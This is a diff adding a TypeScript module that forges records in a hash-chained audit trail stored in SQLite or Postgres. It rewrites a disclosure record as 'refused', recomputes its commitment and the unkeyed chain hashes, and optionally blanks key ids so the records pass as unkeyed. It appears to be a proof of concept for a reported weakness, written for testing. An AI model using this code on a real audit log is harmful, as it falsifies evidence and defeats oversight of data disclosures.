@@ -1,0 +1,105 @@
+/**
+ * What someone who can write the trail's database, but does not hold its key, can do: change a
+ * record and re-link records with the chain's unkeyed formula, which the source code shows.
+ */
+import { createHash, createHmac } from 'node:crypto';
+import Database from 'better-sqlite3';
+import pg from 'pg';
+
+/** Raw SQL on the trail's database, `$1`-style placeholders for both. */
+export type Sql = (text: string, params?: ReadonlyArray<string | number | null>) => Promise<Array<Record<string, unknown>>>;
+
+export function sqliteSql(file: string): Sql {
+  return async (text, params = []) => {
+    const db = new Database(file);
+    try {
+      const statement = db.prepare(text.replace(/\$\d+/g, '?'));
+      return statement.reader ? (statement.all(...params) as Array<Record<string, unknown>>) : (statement.run(...params), []);
+    } finally {
+      db.close();
+    }
+  };
+}
+
+export function postgresSql(url: string): Sql {
+  return async (text, params = []) => {
+    const client = new pg.Client({ connectionString: url });
+    await client.connect();
+    try {
+      return (await client.query(text, [...params])).rows as Array<Record<string, unknown>>;
+    } finally {
+      await client.end();
+    }
+  };
+}
+
+/** The unkeyed link: SHA-256 of the previous link and the record's fields (call records: no detail). */
+export function unkeyedLink(row: Record<string, unknown>): string {
+  const sealed = JSON.stringify([
+    Number(row.seq),
+    row.at,
+    row.kind,
+    row.tenant_id,
+    row.surface,
+    row.caller,
+    row.conversation,
+    row.principal,
+    row.verified_by,
+    row.issuer,
+    Number(row.unverified) === 1,
+    row.tool,
+    row.outcome,
+    row.reason,
+    JSON.parse(String(row.disclosed)),
+    row.write_action,
+    null,
+    row.commitment,
+  ]);
+  return createHash('sha256').update(String(row.prev_hash)).update('\n').update(sealed).digest('hex');
+}
+
+export interface Forgery {
+  /** The record turned from an `ok` disclosure into `refused` for mallory (its commitment recomputed with the salt in its row). */
+  change: number;
+  /** Re-link from this record on (default: the changed one) … */
+  relinkFrom?: number;
+  /** … through this one (default: the last). */
+  relinkThrough?: number;
+  /** Also blank the key ids of the re-linked records, so they pass for ones written before the chain was keyed. */
+  claimUnkeyed: boolean;
+}
+
+/** The attack from the report, done with plain SQL. */
+export async function rewriteAndRelink(sql: Sql, forgery: Forgery): Promise<void> {
+  const rows = await sql('SELECT * FROM audit_records ORDER BY seq');
+  const from = forgery.relinkFrom ?? forgery.change;
+  const through = forgery.relinkThrough ?? Number.MAX_SAFE_INTEGER;
+  const hasKeyIds = rows.length > 0 && 'key_id' in rows[0]!;
+  let previous: string | undefined;
+  for (const row of rows) {
+    const seq = Number(row.seq);
+    if (seq < from || seq > through) {
+      previous = String(row.hash);
+      continue;
+    }
+    if (seq === forgery.change) {
+      Object.assign(row, { outcome: 'refused', reason: 'not_verified', disclosed: '[]', email: 'mallory@example.com' });
+      const customerIds = row.customer_ids ? (JSON.parse(String(row.customer_ids)) as string[]) : [];
+      row.commitment = createHmac('sha256', Buffer.from(String(row.salt), 'hex')).update(JSON.stringify([row.email, customerIds])).digest('hex');
+    }
+    row.prev_hash = previous ?? '0'.repeat(64);
+    row.hash = unkeyedLink(row);
+    previous = String(row.hash);
+    await sql('UPDATE audit_records SET outcome = $1, reason = $2, disclosed = $3, email = $4, commitment = $5, prev_hash = $6, hash = $7 WHERE seq = $8', [
+      String(row.outcome),
+      row.reason === null ? null : String(row.reason),
+      String(row.disclosed),
+      row.email === null ? null : String(row.email),
+      String(row.commitment),
+      String(row.prev_hash),
+      String(row.hash),
+      seq,
+    ]);
+    if (hasKeyIds && forgery.claimUnkeyed) await sql('UPDATE audit_records SET key_id = NULL WHERE seq = $1', [seq]);
+  }
+}
